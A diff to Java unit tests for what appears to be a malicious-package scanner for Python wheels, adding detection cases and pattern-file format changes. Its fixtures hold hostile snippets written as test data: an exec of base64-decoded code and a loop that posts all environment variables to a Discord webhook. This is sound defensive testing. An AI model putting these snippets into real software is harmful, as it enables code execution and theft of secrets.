@@ -129,6 +129,14 @@ class ContentRuleTest {
     }
 
     @Test
+    void textThatLowerCasingLengthensIsMatchedWhereItIs() {
+      String turkish = "# \u0130\u0130\u0130\u0130 \u0130stanbul\nimport os\nexec(base64.b64decode(p))\n";
+
+      assertThat(only(check(wheelWith("pkg/tr.py", turkish)), "exec-decoded").message())
+          .endsWith("pkg/tr.py:3: exec(base64.b64decode(p))");
+    }
+
+    @Test
     void controlCharactersInCodeAreEscaped() {
       List<Finding> findings = check(wheelWith("pkg/x.py",
           "exec(base64.b64decode(p)) \u001b[2K\u0007\n"));
@@ -169,6 +177,57 @@ class ContentRuleTest {
     }
 
     @Test
+    void redirectingAStandardStreamIsNotAReverseShell() {
+      String capture = """
+          import os
+
+          def start(self):
+              os.dup2(self._tmpfile.fileno(), self._targetfd)
+          """;
+
+      assertThat(check(wheelWith("pkg/capture.py", capture))).isEmpty();
+    }
+
+    @Test
+    void aCredentialPathInADocstringIsNotData() {
+      String client = """
+          import requests
+
+          def login(self, dockercfg_path=None):
+              \"\"\"Log in.
+
+              dockercfg_path (str): Use a custom path (default ``$HOME/.docker/config.json``)
+              \"\"\"
+              return self.session.post(self.url, json={})
+          """;
+
+      assertThat(check(wheelWith("pkg/client.py", client))).isEmpty();
+    }
+
+    @Test
+    void aStringInParenthesesIsDataEvenAloneOnItsLine() {
+      String hidden = """
+          import os, requests
+          URL = (
+              "https://discord.com/api/webhooks/1/x"
+          )
+          for k, v in os.environ.items():
+              requests.post(URL, data=k + v)
+          """;
+
+      assertThat(check(wheelWith("pkg/x.py", hidden))).extracting(Finding::level)
+          .contains(RiskLevel.CRITICAL);
+    }
+
+    @Test
+    void partsOfATheftInDifferentFilesAreNotCombined() {
+      assertThat(check(wheelWith(
+          "pkg/env.py", "import os\nfor k, v in os.environ.items():\n    print(k)\n",
+          "pkg/links.py", "HELP = 'see http://bit.ly/2hrImnY for details'\n")))
+          .extracting(Finding::level).containsOnly(RiskLevel.MEDIUM);
+    }
+
+    @Test
     void aPlainSetupPyIsQuiet() {
       assertThat(check(sdistWith("pkg-2.0/setup.py",
           "from setuptools import setup\nsetup(name='pkg', version='2.0')\n"))).isEmpty();
@@ -198,7 +257,7 @@ class ContentRuleTest {
     @Test
     void aPatternFileAddsFindingsAndBuiltInPatternsCanBeSwitchedOff() {
       TextFile ours = new TextFile("/etc/pkgguard/ours.tsv",
-          "pattern\tinternal-host\tpython\tstrings\thigh\t1\tvault\\.corp\\.example"
+          "pattern\tinternal-host\tpython\tstrings\thigh\t1\tvault\tvault\\.corp\\.example"
               + "\tnames our secrets vault\n");
       InspectedDistribution file = wheelWith("pkg/x.py",
           "URL = 'https://vault.corp.example/v1'\nimport a\n", "y.pth", "import y\n");
@@ -218,7 +277,7 @@ class ContentRuleTest {
       assertThatThrownBy(() -> check("pkg", Map.of("pattern-files", List.of(broken)),
           wheelWith("a.py", "")))
           .isInstanceOf(RuleParameterException.class)
-          .hasMessageContaining("/etc/pkgguard/bad.tsv:1: expected 8 tab-separated columns");
+          .hasMessageContaining("/etc/pkgguard/bad.tsv:1: expected 9 tab-separated columns");
       assertThatThrownBy(() -> check("pkg", Map.of("disabled-patterns", List.of("no-such")),
           wheelWith("a.py", "")))
           .isInstanceOf(RuleParameterException.class).hasMessageContaining("'no-such'");
